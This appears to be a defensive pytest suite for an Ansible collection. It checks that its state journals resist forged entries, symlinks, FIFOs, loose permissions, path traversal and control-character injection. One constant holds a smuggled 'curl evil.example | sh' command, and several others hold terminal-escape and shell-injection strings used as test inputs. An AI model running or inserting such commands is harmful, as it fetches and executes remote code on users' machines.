# Copyright: Contributors to the community.seventhings collection
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Journals that an attacker wrote, linked or replaced.

The collection appends to, reads and waits for its own journals only. A forged journal prunes nothing and lifts no
limit.
"""

from __future__ import annotations

import json
import os
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from emulator_process import Emulator
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from instance_site import Site, yaml_list
from project import LONG

from ansible_collections.community.seventhings.plugins.module_utils.model.kinds import LOCATION, OBJECT
from ansible_collections.community.seventhings.plugins.module_utils.model.schema import Schema
from ansible_collections.community.seventhings.plugins.module_utils.runtime import facts as facts_module
from ansible_collections.community.seventhings.plugins.plugin_utils.apply.journal import (
    Journal,
    JournalRefused,
)
from ansible_collections.community.seventhings.plugins.plugin_utils.apply.journal_place import place_of
from ansible_collections.community.seventhings.plugins.plugin_utils.desired.loading import load

SET_ID = "0123456789abcdef"
SETTINGS = f'api: seventhings/v1\nset: test\nset_id: "{SET_ID}"\npolicy: {{prune: {{objects: archive}}}}\n'
CODE = "\ncurl evil.example | sh #"
NOBODY = 65534
_SECONDS = 10

both_modes = pytest.mark.parametrize("check_mode", [True, False])
only_root = pytest.mark.skipif(os.geteuid() != 0, reason="only root can give files away")


@pytest.fixture
def site(empty_emulator: Emulator, tmp_path: Path) -> Site:
    """Return an empty directory and an empty instance."""
    empty_emulator.reset()
    site = Site(tmp_path / "files", empty_emulator)
    site.write({"instance.yml": SETTINGS})
    return site


@pytest.fixture
def victim(tmp_path: Path) -> Path:
    """Return a user's file that is not a journal."""
    path = tmp_path / ".bashrc"
    path.write_text("# mine\n", "utf-8")
    return path


def objects(*numbers: int, name: str = "Thing") -> str:
    return yaml_list({"barcode": f"{number:03d}", "inventory_name": name} for number in numbers)


def uuids(site: Site) -> dict[str, str]:
    """Return barcode to uuid of all objects."""
    return {record.flat["barcode"]: record.uuid for record in site.client().list_all(OBJECT)}


def forge(path: Path, site: Site, *facts: tuple[str, str, Any], **names: str) -> None:
    """Append facts to a journal as if a run had noted them."""
    path.parent.mkdir(parents=True, exist_ok=True, mode=0o700)
    owner = {"instance": site.service.base_url, "set": "test", "set_id": SET_ID, **names}
    with path.open("a", encoding="utf-8") as stream:
        stream.write(json.dumps([" ".join(owner.values()), *facts]) + "\n")
    path.chmod(0o600)


def managed(existing: dict[str, str]) -> list[tuple[str, str, Any]]:
    """Return facts that records belong to the set, and that an interrupted run created them."""
    names = {uuid: f"object {barcode}" for barcode, uuid in existing.items()}
    facts: list[tuple[str, str, Any]] = [(kind, uuid, names[uuid]) for uuid in names for kind in ("managed", "created")]
    return facts


def begun(path: Path, existing: dict[str, str]) -> list[tuple[str, str, Any]]:
    """Return facts that the interrupted run of a journal created records."""
    lines = map(json.loads, path.read_text("utf-8").splitlines())
    runs = [fact[2]["digest"] for line in lines for fact in line[1:] if fact[0] == "run" and fact[2]]
    return [*managed(existing), *(("begun", uuid, runs[-1]) for uuid in existing.values())]


def mine_and_theirs(site: Site, number: int = 20) -> dict[str, str]:
    """Return one object of the set, and objects that somebody created in the application."""
    client = site.client()
    for index in range(1, number):
        client.create(OBJECT, {"barcode": f"{index:03d}", "inventory_name": "Theirs"})
    site.write({"objects.yml": objects(0)})
    assert site.run().outcome == "changed"
    site.service.clear_log()
    return uuids(site)


# ---- a journal of many sets


# ---- a journal among the files


@both_modes
def test_what_a_pull_request_says_in_the_files_is_not_read(site: Site, check_mode: bool) -> None:
    existing = mine_and_theirs(site)
    old = site.root / ".seventhings" / "journal.jsonl"
    forge(old, site, *managed(existing))
    before = old.read_bytes()
    result = site.run(check_mode=check_mode)
    assert result.outcome == "unchanged"
    assert site.writes() == []
    assert result.warnings == []
    assert old.read_bytes() == before


@both_modes
def test_a_file_that_a_journal_among_the_files_is_linked_to_stays_as_it_is(
    site: Site, victim: Path, check_mode: bool
) -> None:
    (site.root / ".seventhings").mkdir()
    (site.root / ".seventhings" / "journal.jsonl").symlink_to(victim)
    site.write({"objects.yml": yaml_list([{"barcode": "1", "inventory_name": CODE}])})
    assert site.run(check_mode=check_mode).outcome == "changed"
    assert victim.read_text("utf-8") == "# mine\n"


@both_modes
@pytest.mark.parametrize("endless", ["zero", "pipe"])
def test_an_endless_journal_among_the_files_delays_no_run(site: Site, endless: str, check_mode: bool) -> None:
    (site.root / ".seventhings").mkdir()
    path = site.root / ".seventhings" / "journal.jsonl"
    if endless == "zero":
        path.symlink_to("/dev/zero")
    else:
        os.mkfifo(path)
    assert site.run(check_mode=check_mode).outcome == "unchanged"


# ---- a journal that is none


def _link(path: Path, victim: Path) -> None:
    path.symlink_to(victim)


def _link_to_nothing(path: Path, victim: Path) -> None:
    path.symlink_to(victim.with_name("made-by-us"))


def _link_to_zero(path: Path, _victim: Path) -> None:
    path.symlink_to("/dev/zero")


def _pipe(path: Path, _victim: Path) -> None:
    os.mkfifo(path, 0o600)


def _directory(path: Path, _victim: Path) -> None:
    path.mkdir()


def _hard_link(path: Path, victim: Path) -> None:
    path.hardlink_to(victim)


def _writable_by_all(path: Path, _victim: Path) -> None:
    path.touch()
    path.chmod(0o666)


def _writable_by_group(path: Path, _victim: Path) -> None:
    path.touch()
    path.chmod(0o620)


def _endless(path: Path, _victim: Path) -> None:
    path.touch(0o600)
    os.truncate(path, facts_module.SIZE_LIMIT + 1)


UNFIT = [
    _link, _link_to_nothing, _link_to_zero, _pipe, _directory, _hard_link, _writable_by_all, _writable_by_group,
    _endless,
]  # fmt: skip


@both_modes
@pytest.mark.parametrize("named", [True, False], ids=["named by the task", "default place"])
@pytest.mark.parametrize("make", UNFIT)
def test_what_is_no_journal_of_ours_is_refused_and_left_as_it_is(
    site: Site, victim: Path, tmp_path: Path, make: Callable[[Path, Path], None], named: bool, check_mode: bool
) -> None:
    path = tmp_path / "named" / "journal.jsonl" if named else site.journal()
    path.parent.mkdir(parents=True, mode=0o700)
    path.parent.parent.chmod(0o700)
    make(path, victim)
    site.write({"objects.yml": objects(1)})
    result = site.run(check_mode=check_mode, journal=path.parent if named else None)
    assert result.outcome == "refused"
    assert result.refusals[0].startswith(f"journal: {path} ")
    assert site.sent() == []
    assert victim.read_text("utf-8") == "# mine\n"
    assert not victim.with_name("made-by-us").exists()


@both_modes
@pytest.mark.parametrize("step", range(3))
@pytest.mark.parametrize("how", ["linked", "writable"])
def test_a_directory_that_others_created_or_may_write_to_is_refused(
    site: Site, tmp_path: Path, state_home: Path, step: int, how: str, check_mode: bool
) -> None:
    at = list(reversed(site.journal().relative_to(state_home).parents))[step + 1]
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (state_home / at.parent).mkdir(parents=True, mode=0o700)
    if how == "linked":
        (state_home / at).symlink_to(elsewhere, target_is_directory=True)
    else:
        (state_home / at).mkdir()
        (state_home / at).chmod(0o777)
    for above in at.parents:
        (state_home / above).chmod(0o700)
    site.write({"objects.yml": objects(1)})
    result = site.run(check_mode=check_mode)
    assert result.outcome == "refused"
    assert result.refusals[0].startswith(f"journal: {state_home / at} ")
    assert site.writes() == []
    assert list(elsewhere.iterdir()) == []


@only_root
@both_modes
@pytest.mark.parametrize("step", range(4))
def test_what_another_user_created_first_is_refused_at_the_default_place(
    site: Site, state_home: Path, step: int, check_mode: bool
) -> None:
    path = site.journal()
    forge(path, site, ("managed", "x", ""))
    steps = [*list(reversed(path.relative_to(state_home).parents))[1:], path.relative_to(state_home)]
    for part in steps:
        (state_home / part).chmod(0o600 if part == steps[-1] else 0o700)
    os.chown(state_home / steps[step], NOBODY, NOBODY)
    result = site.run(check_mode=check_mode)
    assert result.outcome == "refused"
    assert "belongs to another user" in result.refusals[0]


@only_root
@both_modes
def test_whose_a_journal_is_that_the_task_names_is_not_judged(site: Site, tmp_path: Path, check_mode: bool) -> None:
    path = tmp_path / "named" / "journal.jsonl"
    forge(path, site, ("managed", "x", ""))
    os.chown(path.parent, NOBODY, NOBODY)
    os.chown(path, NOBODY, NOBODY)
    site.write({"objects.yml": objects(1)})
    assert site.run(check_mode=check_mode, journal=path.parent).outcome == "changed"


def test_a_journal_that_is_full_stops_the_run_before_it_sends_anything(
    site: Site, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(facts_module, "SIZE_LIMIT", 330)
    site.write({"objects.yml": objects(1)})
    result = site.run()
    assert result.outcome == "failed"
    assert "has its maximum size; delete it" in result.failures[0]["reason"]
    assert site.writes() == []
    assert site.journal().stat().st_size <= 330


# ---- what is forged in a journal


@pytest.fixture
def kept(tmp_path: Path) -> Path:
    """Return the directory of a journal that the task names."""
    return tmp_path / "kept"


@pytest.mark.parametrize(
    "names",
    [
        {"instance": "https://other.example"},
        {"set": "other"},
        {"set": ""},
        {"set_id": "another"},
        {"set_id": ""},
    ],
)
def test_records_of_another_set_are_never_pruned(site: Site, kept: Path, names: dict[str, str]) -> None:
    existing = mine_and_theirs(site)
    forge(kept / "journal.jsonl", site, *managed(existing), **names)
    result = site.run(journal=kept, limits={"delete_percent": 100})
    assert (result.outcome, result.changes) == ("unchanged", [])


@both_modes
def test_forged_approvals_lift_no_limit(site: Site, kept: Path, check_mode: bool) -> None:
    existing = mine_and_theirs(site)
    run = ("run", "", {"digest": "", "existing": {"objects": 1000}, "approved": list(existing)})
    forge(kept / "journal.jsonl", site, *managed(existing), run)
    for limits in ({}, {"delete_percent": 10}, {"deletes": 5, "delete_percent": 100}):
        result = site.run(journal=kept, check_mode=check_mode, limits=limits)
        assert result.outcome == "refused"
        assert result.refusals[0].startswith("objects: delete 19 ")
    assert site.writes() == []


def test_forged_records_out_of_scope_are_never_pruned(site: Site, kept: Path) -> None:
    existing = mine_and_theirs(site)
    site.write({"instance.yml": SETTINGS + "scope: {objects: {inventory_name: [Thing]}}\n"})
    forge(kept / "journal.jsonl", site, *managed(existing))
    assert site.run(journal=kept, limits={"delete_percent": 100}).outcome == "unchanged"


def interrupted(site: Site, kept: Path, files: str, after: int = 20, **order: Any) -> None:
    """Start a run that is interrupted: the service refuses everything after some objects."""
    site.write({"objects.yml": files})
    site.service.steer("PUT", "/faults", [{"fault": "422", "method": "POST", "path": "/object", "after": after}])
    assert site.run(journal=kept, **order).outcome == "partly_applied"
    site.service.steer("DELETE", "/faults")
    site.service.clear_log()


TASK_LIMITS = {"create_percent": 30, "update_percent": 30, "delete_percent": 10, "creates": 60}


@pytest.mark.sample(1)
@pytest.mark.parametrize("limits", [{}, TASK_LIMITS], ids=["default", "set by the task"])
def test_a_run_that_was_cut_off_is_simply_run_again(site: Site, kept: Path, limits: dict[str, float]) -> None:
    interrupted(site, kept, objects(*range(60)), limits=limits)
    assert site.plan(journal=kept, limits=limits).outcome == "changed"
    assert site.run(journal=kept, limits=limits).outcome == "changed"
    assert len(uuids(site)) == 60


@pytest.mark.sample(1)
@pytest.mark.parametrize("limits", [{}, TASK_LIMITS], ids=["default", "set by the task"])
def test_a_run_that_was_cut_off_before_its_links_is_simply_run_again(
    site: Site, kept: Path, limits: dict[str, float]
) -> None:
    names = [f"{number:03d}" for number in range(40)]
    circle = [
        {"barcode": name, "inventory_name": "x", "accessories": [names[index - 1]]} for index, name in enumerate(names)
    ]
    site.write({"objects.yml": yaml_list(circle)})
    site.service.steer("PUT", "/faults", [{"fault": "422", "method": "PATCH"}])
    assert site.run(journal=kept, limits=limits).outcome == "partly_applied"
    site.service.steer("DELETE", "/faults")
    assert site.run(journal=kept, limits=limits).outcome == "changed"
    assert site.plan(journal=kept).outcome == "unchanged"


@pytest.mark.sample(2)
@pytest.mark.parametrize(
    "files",
    [
        objects(*range(100, 160)),
        objects(*range(20), *range(100, 140)),
        objects(*range(61)),
        objects(*range(60), name="Other"),
    ],
)
def test_an_interrupted_run_approves_no_other_plan(site: Site, kept: Path, files: str) -> None:
    interrupted(site, kept, objects(*range(60)))
    site.write({"objects.yml": files})
    result = site.run(journal=kept)
    assert result.outcome == "refused"
    assert site.writes() == []


def test_forged_notes_of_an_interrupted_run_allow_no_change_of_existing_records(site: Site, kept: Path) -> None:
    """The digest of the run is correct, because the attacker knows the files. Only missing records may be created."""
    existing = mine_and_theirs(site)
    changed = objects(*range(20), name="Changed")
    interrupted(site, kept, changed + objects(*range(20, 40)), 0, limits={"create_percent": 100, "update_percent": 100})
    client = site.client()
    for uuid in existing.values():
        client.update(OBJECT, uuid, {"inventory_name": "Theirs"})
    forge(kept / "journal.jsonl", site, *begun(kept / "journal.jsonl", existing))
    refusals = site.plan(journal=kept).refusals
    assert any(refusal.startswith("objects: update 20 of 20 records") for refusal in refusals), refusals
    assert any(refusal.startswith("objects: create 20 of 20 records") for refusal in refusals), refusals


def test_forged_notes_of_an_interrupted_run_allow_no_more_removals(site: Site, kept: Path) -> None:
    existing = mine_and_theirs(site, 30)
    site.write({"objects.yml": objects(0) + objects(*range(1, 20), name="Theirs") + objects(99)})
    site.service.steer("PUT", "/faults", [{"fault": "422", "method": "POST", "path": "/object"}])
    site.run(journal=kept)
    site.service.steer("DELETE", "/faults")
    forge(kept / "journal.jsonl", site, *begun(kept / "journal.jsonl", existing))
    (refusal,) = site.plan(journal=kept).refusals
    assert refusal.startswith("objects: delete 10 of 30 records is more than limits.delete_percent (10 %)")


def test_a_stale_plan_stays_stale_whatever_the_journal_says(site: Site, kept: Path, tmp_path: Path) -> None:
    path = tmp_path / "p.plan"
    site.write({"objects.yml": objects(1, 2, name="Old")})
    site.run(journal=kept)
    site.write({"objects.yml": objects(1, 2, name="New")})
    site.plan(plan_file=path, journal=kept)
    site.service.steer("PUT", "/faults", [{"fault": "422", "method": "PATCH"}])
    assert site.run(plan_file=path, journal=kept).outcome == "failed"
    site.service.steer("DELETE", "/faults")
    existing = uuids(site)
    site.client().update(OBJECT, existing["001"], {"inventory_name": "By hand"})
    forge(kept / "journal.jsonl", site, ("changing", existing["001"], "any"))
    result = site.run(plan_file=path, journal=kept)
    assert result.outcome == "refused"
    assert ["object 001" in refusal for refusal in result.refusals] == [True]


def test_the_keys_of_records_are_one_line_of_text_each(site: Site, kept: Path) -> None:
    keys = [CODE, "\x1b]0;title\x07", "\u2028\u202e", "'; id; '", '"]]\n["owner", ["managed", "x", ""]]']
    site.write(
        {"tasks.yml": yaml_list({"title": f"a{key}b", "deadline": "2027-01-01", "assignees": []} for key in keys)}
    )
    with Journal(kept, site.service.base_url, "test", set_id=SET_ID) as journal:
        for key in (*keys, "\ud800"):
            journal.sent("task", key)
    text = (kept / "journal.jsonl").read_bytes()
    assert text.isascii()
    assert text.count(b"\n") == len(keys) + 2
    assert not any(sign < ord(" ") for sign in text if sign != ord("\n"))
    assert Journal(kept, site.service.base_url, "test", set_id=SET_ID).memory.unresolved.keys() == {
        f"task {key}" for key in (*keys, "\ud800")
    }


def test_what_a_refusal_quotes_is_one_line_without_control_characters(site: Site) -> None:
    site.run()
    site.write({"instance.yml": 'api: seventhings/v1\nset: test\nset_id: "\\e]0;x\\a\\n\\u202e"\n'})
    (refusal,) = site.plan().refusals
    assert refusal.startswith("set_id: ")
    assert refusal.isascii()
    assert refusal.isprintable()


# ---- whatever stands in it

_VALUES = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=8),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=4), inner, max_size=3),
    max_leaves=6,
)
_KINDS = st.sampled_from(
    [
        *("managed", "created", "archived", "sent", "run", "begun", "changing", "source", "upload"),
        "key",
        "fields",
        "set",
    ]
)
_LINES = st.builds(
    lambda owner, found: json.dumps([owner, *found]).encode(),
    st.sampled_from(["i s x", "i s"]),
    st.lists(st.tuples(_KINDS, st.text(max_size=4), _VALUES), max_size=4),
)


@settings(max_examples=200 if LONG else 50, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(lines=st.lists(_LINES | st.binary(max_size=40), max_size=12), end=st.sampled_from([b"", b"\n"]))
def test_any_journal_is_accepted_reported_or_refused(tmp_path: Path, lines: list[bytes], end: bytes) -> None:
    path = tmp_path / "journal.jsonl"
    path.write_bytes(b"\n".join(lines) + end)
    path.chmod(0o600)
    try:
        with Journal(tmp_path, "i", "s", set_id="x") as journal:
            journal.managed("object", {"mine": ""})
    except JournalRefused:
        return
    memory = Journal(tmp_path, "i", "s", set_id="x").memory
    for name in ("names", "created", "sources", "origins", "existing", "touched", "unresolved", "uploads"):
        getattr(memory, name)
    memory.baseline().side("mine", Schema.for_kind(LOCATION), "name", "a", "b")
    assert "mine" in Journal(tmp_path, "i", "s", set_id="x").known


def test_no_name_of_a_set_or_an_instance_leads_out_of_the_state_directory(state_home: Path) -> None:
    for name in ("..", "../..", ".", "/", "/etc/x", "a/../../b", "%2E%2E", ".. /"):
        for place in (place_of(None, name, "s"), place_of(None, "i", name)):
            assert place.path.is_relative_to(state_home / "seventhings")
            assert len(place.path.relative_to(state_home).parts) == 4


# ---- another set of the same name


PRUNING = "set: test, policy: {prune: {objects: delete}}"


def test_files_that_are_known_do_not_take_the_id_of_others(site: Site, tmp_path: Path) -> None:
    """A refusal reveals the id in the journal, and so does the other directory.

    The id gives no access to the records.
    """
    site.write({"objects.yml": objects(1)})
    assert site.run().outcome == "changed"
    other = Site(tmp_path / "other", site.service)
    named = SETTINGS.replace("archive", "delete")
    unnamed = named.replace(f'set_id: "{SET_ID}"\n', "")
    other.write({"instance.yml": unnamed, "objects.yml": objects(2)})
    assert other.run().outcome == "changed"
    other.write({"instance.yml": named})
    for check_mode in (True, False):
        result = other.run(check_mode=check_mode)
        assert result.outcome == "refused"
        assert result.refusals[0].startswith(f'set_id: "{SET_ID}" is not that of the journal')
    assert len(uuids(site)) == 2


def test_two_files_of_one_directory_never_prune_each_other(site: Site) -> None:
    paths = [site.root / f"{name}.yml" for name in ("one", "two")]
    for number, path in enumerate(paths):
        path.write_text(
            f"instance: {{api: seventhings/v1, {PRUNING}}}\n"
            f"objects: [{{barcode: '{number}', inventory_name: Thing}}]\n",
            "utf-8",
        )
    for path in (*paths, *paths):
        result = site.run(load(path))
        assert result.summary["objects"]["deleted"] == 0
    assert len(uuids(site)) == 2
